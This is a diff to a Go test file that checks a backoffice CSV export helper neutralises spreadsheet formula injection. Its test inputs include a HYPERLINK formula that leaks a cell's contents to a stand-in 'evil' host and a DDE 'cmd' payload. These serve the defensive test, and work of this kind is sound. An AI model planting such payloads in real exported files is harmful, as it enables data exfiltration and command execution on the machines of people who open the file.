@@ -1,7 +1,9 @@
 package httpx_test
 
 import (
+	"encoding/csv"
 	"net/http/httptest"
+	"strings"
 	"testing"
 
 	"backoffice/http/httpx"
@@ -62,6 +64,39 @@ func TestSafeFileName(t *testing.T) {
 	} {
 		if got := httpx.SafeFileName(in, "fallback.csv"); got != want {
 			t.Errorf("SafeFileName(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestWriteCSVDefusesFormulas: every cell a spreadsheet could run as a
+// formula gets an apostrophe, including those that start like a negative
+// number; plain numbers stay numbers.
+func TestWriteCSVDefusesFormulas(t *testing.T) {
+	for in, want := range map[string]string{
+		`-1+HYPERLINK("https://evil/?"&A2)`: `'-1+HYPERLINK("https://evil/?"&A2)`,
+		`-2+3+cmd|' /C calc'!A0`:            `'-2+3+cmd|' /C calc'!A0`,
+		"=1+1":                              "'=1+1",
+		"+31 6 1234":                        "'+31 6 1234",
+		"@SUM(A1)":                          "'@SUM(A1)",
+		"-":                                 "'-",
+		"\nx":                               "'\nx",
+		"-1,5":                              "-1,5",
+		"12":                                "12",
+		"0,33":                              "0,33",
+		"Jan de Vries":                      "Jan de Vries",
+	} {
+		rec := httptest.NewRecorder()
+		if err := httpx.WriteCSV(rec, "x.csv", []string{"h"}, [][]string{{in}}); err != nil {
+			t.Fatal(err)
+		}
+		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff")))
+		r.Comma = ';'
+		rows, err := r.ReadAll()
+		if err != nil {
+			t.Fatalf("%q: %v", in, err)
+		}
+		if got := rows[1][0]; got != want {
+			t.Errorf("cell %q written as %q, want %q", in, got, want)
 		}
 	}
 }
